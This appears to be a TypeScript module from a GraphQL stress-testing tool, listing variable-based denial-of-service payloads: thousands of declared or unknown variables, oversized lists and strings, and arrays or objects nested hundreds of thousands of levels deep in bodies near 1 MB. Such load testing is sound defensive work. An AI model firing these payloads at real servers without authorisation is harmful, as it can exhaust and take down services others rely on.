import { fill, type Attack } from './attack.ts';
import type { Terrain } from './terrain.ts';

/** The whole body may be this long. */
const BODY_BYTES = 1_000_000;

const nested = (open: string, close: string, times: number): string =>
  `{"v":${open.repeat(times)}${close.repeat(times)}}`;
const plain = ({ entrance, leaf }: Terrain): string => `{${entrance}{${leaf}}}`;
const asking = ({ field, argument, leaf }: Terrain): string =>
  `query($v:${argument?.type ?? 'ID'}){${field}(${argument?.name ?? 'code'}:$v){${leaf}}}`;

/** Variables: many, large, deep, unknown, up to the size of a body. The text stays short. */
export const VARIABLE_ATTACKS: readonly Attack[] = [
  {
    name: 'variables-en-foule',
    write: (t) => ({
      query: fill('query(', (n) => `$v${n}:ID `, `)${plain(t)}`),
      variables: Object.fromEntries(Array.from({ length: 1_000 }, (_, n) => [`v${n}`, n])),
    }),
  },
  {
    name: 'variables-fausses-en-foule',
    write: (t) => ({
      query: fill('query(', (n) => `$v${n}:Boolean! `, `)${plain(t)}`),
      variables: Object.fromEntries(Array.from({ length: 900 }, (_, n) => [`v${n}`, 'x'.repeat(900)])),
    }),
  },
  {
    name: 'variables-inconnues-10-ko',
    write: (t) => ({
      query: plain(t),
      variables: Object.fromEntries(Array.from({ length: 900 }, (_, n) => [`v${n}`, n])),
    }),
  },
  {
    name: 'variables-inconnues-1-mo',
    write: (t) => ({
      query: plain(t),
      variables: Object.fromEntries(Array.from({ length: 60_000 }, (_, n) => [`v${n}`, n])),
    }),
  },
  {
    name: 'variable-liste-1-mo',
    write: (t) => ({ query: asking(t), variables: { v: Array.from({ length: 400_000 }, () => 1) } }),
  },
  {
    name: 'variable-listes-profondes',
    write: (t) => ({ query: asking(t), variablesText: nested('[', ']', 4_900) }),
  },
  {
    name: 'variable-listes-profondes-1-mo',
    write: (t) => ({ query: asking(t), variablesText: nested('[', ']', 450_000) }),
  },
  {
    name: 'variable-objets-profonds-1-mo',
    write: (t) => ({
      query: asking(t),
      variablesText: `{"v":${'{"a":'.repeat(150_000)}1${'}'.repeat(150_000)}}`,
    }),
  },
  {
    name: 'variable-inconnue-profonde-1-mo',
    write: (t) => ({ query: plain(t), variablesText: nested('[', ']', 450_000) }),
  },
  {
    name: 'variable-chaine-1-mo',
    write: (t) => ({ query: asking(t), variables: { v: 'é'.repeat(BODY_BYTES / 2 - 1_000) } }),
  },
];
